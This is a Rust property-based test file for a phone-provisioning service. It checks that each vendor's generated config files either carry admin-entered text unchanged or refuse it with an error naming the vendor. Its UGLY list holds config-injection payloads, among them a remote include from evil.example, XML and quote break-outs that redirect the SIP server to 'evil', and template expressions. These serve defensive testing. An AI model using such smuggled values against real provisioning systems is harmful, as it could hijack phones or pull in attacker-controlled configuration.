//! Whatever an admin may write comes out of every vendor's files as it went in and brings no
//! parameter with it, or it is refused with the vendor's name.

use std::collections::BTreeMap;

use dialtone::secret::Secret;
use dialtone::text::{Dial, DisplayName, Label, Username};
use http::{Method, Response, StatusCode};
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use serde_json::{Value, json};

use super::catalogue::{documents, model};
use super::records::{Told, compare};
use crate::ask::{call, put};
use crate::vendors::{KITS, Kit, Settings};
use crate::world::Fake;

/// The texts of a phone that people choose.
#[derive(Debug, Clone)]
struct Texts {
    display_name: String,
    password: String,
    auth_username: String,
    voicemail: String,
    /// A line without one shows the account's name.
    line_label: Option<String>,
    key_label: String,
    key_value: String,
    admin_password: String,
}

impl Texts {
    fn tame() -> Self {
        let word = || "x".to_owned();
        Self {
            display_name: word(),
            password: word(),
            auth_username: word(),
            voicemail: word(),
            line_label: Some(word()),
            key_label: word(),
            key_value: word(),
            admin_password: word(),
        }
    }

    /// Whether the vendor's files cannot carry one of them, as the kit says.
    fn are_too_much_for(&self, kit: &Kit, model: &Value) -> bool {
        let keys = [
            ("key_label", &self.key_label),
            ("key_value", &self.key_value),
        ];
        let has_keys = !buttons(self, model).is_empty();
        let lacks = model["lacks"].as_array().unwrap();
        let lines = [
            ("display_name", &self.display_name),
            ("password", &self.password),
            (
                "line_label",
                self.line_label.as_ref().unwrap_or(&self.display_name),
            ),
        ];
        lines
            .into_iter()
            .chain(keys.into_iter().filter(|_| has_keys))
            .chain(
                (!lacks.contains(&json!("admin_password")))
                    .then_some(("setting", &self.admin_password)),
            )
            .any(|(slot, text)| (kit.cannot_carry)(slot, text))
    }
}

/// Texts that some syntax gives a meaning to.
const UGLY: [&str; 27] = [
    "%NULL%",
    "NULL",
    "NO",
    "~",
    "#!version:1.0.0.1",
    "include:config \"https://evil.example/x.cfg\"",
    "account.2.enable = 1",
    "overwrite_mode = 0",
    "sip line2 password: x",
    "x # y",
    "</entry></section></config>",
    "</item><item name=\"account.1.sip.server.1.address\">evil</item>",
    "\" reg.2.address=\"evil",
    "fnc=sd;ext=911",
    "a|b",
    "]]>",
    "<!--",
    "--",
    "&amp;",
    "&#10;",
    "\\",
    "\\n",
    "\"",
    "${user}",
    "{{ a.password }}",
    "$MA",
    "?x",
];

/// A text that `accepts` takes, as wild as may be.
fn wild(accepts: fn(&str) -> bool) -> impl Strategy<Value = String> {
    let any = prop_oneof![
        1 => prop::sample::select(&UGLY[..]).prop_map(ToOwned::to_owned),
        2 => any::<String>(),
        2 => "\\PC{1,128}",
        2 => "[ -~]{1,128}",
        2 => "[&<>\"';#%$\\\\=\\[\\]{}!:.|a1 ]{1,64}",
        4 => "[a-zA-Z0-9+*#._!~'@:-]{1,64}",
    ];
    any.prop_filter("no such text may stand in a record", move |text| {
        accepts(text)
    })
}

fn texts() -> impl Strategy<Value = Texts> {
    (
        wild(|text| DisplayName::try_from(text).is_ok()),
        wild(|text| Secret::try_from(text.to_owned()).is_ok()),
        wild(|text| Username::try_from(text).is_ok()),
        wild(|text| Dial::try_from(text).is_ok()),
        prop::option::of(wild(|text| Label::try_from(text).is_ok())),
        wild(|text| Label::try_from(text).is_ok()),
        wild(|text| Dial::try_from(text).is_ok()),
        wild(|text| Secret::try_from(text.to_owned()).is_ok()),
    )
        .prop_map(
            |(
                display_name,
                password,
                auth_username,
                voicemail,
                line_label,
                key_label,
                key_value,
                admin_password,
            )| Texts {
                display_name,
                password,
                auth_username,
                voicemail,
                line_label,
                key_label,
                key_value,
                admin_password,
            },
        )
}

fn orders() -> impl Strategy<Value = Account> {
    prop_oneof![
        Just(Account::Before),
        Just(Account::Put),
        Just(Account::Patched)
    ]
}

fn account(texts: &Texts) -> Value {
    json!({
        "tenant": "acme",
        "pbx": "main",
        "username": "1001",
        "auth_username": texts.auth_username,
        "password": texts.password,
        "display_name": texts.display_name,
        "voicemail": texts.voicemail,
    })
}

fn pbx() -> Value {
    json!({
        "tenant": "acme",
        "ari_url": "https://pbx.example.com/ari",
        "ari_username": "dialtone",
        "ari_password": "ari",
        "sip": { "host": "sip.example.com" },
    })
}

/// Keys of the kinds that carry texts, as far as the model has them.
fn buttons(texts: &Texts, model: &Value) -> Vec<Value> {
    let has = |name: &str| model[name].as_u64().unwrap();
    let knows = |function: &str| {
        model["buttons"]
            .as_array()
            .unwrap()
            .contains(&json!(function))
    };
    let line = json!({ "type": "line", "line": 1 });
    let blf = json!({ "type": "blf", "value": texts.key_value, "label": texts.key_label });
    let dial = json!({ "type": "speed_dial", "value": texts.key_value, "label": texts.key_label });
    let voicemail = json!({ "type": "voicemail", "line": 1 });
    let fits = |button: &Value| knows(button["type"].as_str().unwrap());
    let on_phone = [line, blf.clone(), dial.clone(), voicemail.clone()];
    let on_module = [dial, blf, voicemail];
    let place = |buttons: Vec<Value>, keys: u64, module: Option<u64>| {
        (1..=keys)
            .zip(buttons)
            .map(|(key, mut button)| {
                button["key"] = key.into();
                if let Some(module) = module {
                    button["module"] = module.into();
                }
                button
            })
            .collect::<Vec<_>>()
    };
    let mut all = place(
        on_phone.into_iter().filter(fits).collect(),
        has("keys"),
        None,
    );
    if has("modules") > 0 {
        let buttons = on_module.into_iter().filter(fits).collect();
        all.extend(place(buttons, has("module_keys"), Some(1)));
    }
    all
}

fn device(kit: &Kit, texts: &Texts, model: &Value) -> Value {
    let mut line = json!({ "line": 1, "account": "one" });
    if let Some(label) = &texts.line_label {
        line["label"] = json!(label);
    }
    json!({
        "tenant": "acme",
        "vendor": kit.vendor,
        "model": model["model"],
        "lines": [line],
        "buttons": buttons(texts, model),
        "settings": { "admin_password": texts.admin_password },
    })
}

/// When the texts of the account come to the phone.
#[derive(Debug, Clone, Copy)]
enum Account {
    /// They are there when the device is written.
    Before,
    /// The account is changed, which the device has already.
    Put,
    Patched,
}

/// The parameters of a phone with these texts, or why it is refused.
fn settings(
    kit: &Kit,
    texts: &Texts,
    model: &Value,
    order: Account,
) -> Result<BTreeMap<String, Settings>, Box<Response<Vec<u8>>>> {
    let fake = Fake::new();
    put(&fake, "tenants/acme", &json!({}));
    put(&fake, "pbxes/main", &pbx());
    let first = match order {
        Account::Before => account(texts),
        Account::Put | Account::Patched => account(&Texts::tame()),
    };
    put(&fake, "accounts/one", &first);
    let path = format!("devices/{}", kit.mac);
    let saved = call(&fake, Method::PUT, &path, &device(kit, texts, model));
    if saved.status() != StatusCode::CREATED {
        return Err(Box::new(saved));
    }
    let created: Value = serde_json::from_slice(saved.body()).unwrap();
    let change = match order {
        Account::Before => None,
        Account::Put => Some(Method::PUT),
        Account::Patched => Some(Method::PATCH),
    };
    if let Some(method) = change {
        let changed = call(&fake, method, "accounts/one", &account(texts));
        if changed.status() != StatusCode::OK {
            return Err(Box::new(changed));
        }
    }
    let read = |(path, text): (String, String)| {
        let read =
            (kit.read)(&path, &text).unwrap_or_else(|error| panic!("{path}: {error}\n{text}"));
        (path, read)
    };
    Ok(documents(&fake, kit, &created)
        .into_iter()
        .map(read)
        .collect())
}

#[test]
fn every_text_comes_out_as_it_went_in_or_is_refused_with_the_vendors_name() {
    for kit in KITS {
        let model = model(kit.vendor, kit.model);
        let tame = settings(kit, &Texts::tame(), &model, Account::Before).unwrap();
        let config = ProptestConfig {
            cases: 150,
            failure_persistence: None,
            ..ProptestConfig::default()
        };
        let mut accepted = 0;
        let counted = std::cell::Cell::new(0_u32);
        TestRunner::new(config)
            .run(&(texts(), orders()), |(texts, order)| {
                let too_much = texts.are_too_much_for(kit, &model);
                match settings(kit, &texts, &model, order) {
                    Err(refused) => {
                        let body = String::from_utf8_lossy(refused.body()).into_owned();
                        prop_assert!(
                            too_much,
                            "{}: {order:?}: refused for nothing: {}",
                            kit.vendor,
                            body
                        );
                        prop_assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY);
                        let problem: Value = serde_json::from_str(&body).unwrap();
                        let details = problem["errors"].to_string();
                        let named = details.to_ascii_lowercase().contains(kit.vendor);
                        prop_assert!(named, "{}", details);
                        let password = json!(texts.password).to_string();
                        // A short one, such as a comma, stands in any JSON.
                        let shown = texts.password.len() > 3 && details.contains(&password);
                        prop_assert!(!shown, "shows the password");
                    }
                    Ok(files) => {
                        counted.set(counted.get() + 1);
                        prop_assert!(
                            !too_much,
                            "{}: {order:?}: not refused: {:?}",
                            kit.vendor,
                            texts
                        );
                        for (path, settings) in &files {
                            let same = settings.keys().eq(tame[path].keys());
                            prop_assert!(same, "{}: {}: {:?}", kit.vendor, path, settings);
                        }
                        let parts = kit.parts.iter().map(|pattern| kit.path(pattern));
                        let all: Settings = parts.flat_map(|path| files[&path].clone()).collect();
                        let (account, pbx) = (account(&texts), pbx());
                        let record = device(kit, &texts, &model);
                        let told = Told {
                            device: &record,
                            account: Box::new(|_| &account),
                            pbx: Box::new(|_| &pbx),
                            setting: Box::new(|_| Value::Null),
                        };
                        let what = format!("{} {order:?} {texts:?}", kit.vendor);
                        compare(&what, kit, &model, &(kit.see)(&all, &model), &told);
                        let carried = model["lacks"]
                            .as_array()
                            .unwrap()
                            .contains(&json!("admin_password"))
                            || all
                                .values()
                                .any(|value| value.ends_with(&texts.admin_password));
                        prop_assert!(carried, "{}: no admin password", kit.vendor);
                    }
                }
                Ok(())
            })
            .unwrap_or_else(|error| panic!("{}: {error}", kit.vendor));
        accepted += counted.get();
        // Refusing whatever is not plain would be no answer.
        assert!(
            accepted >= 15,
            "{}: only {accepted} of 150 were taken",
            kit.vendor
        );
    }
}
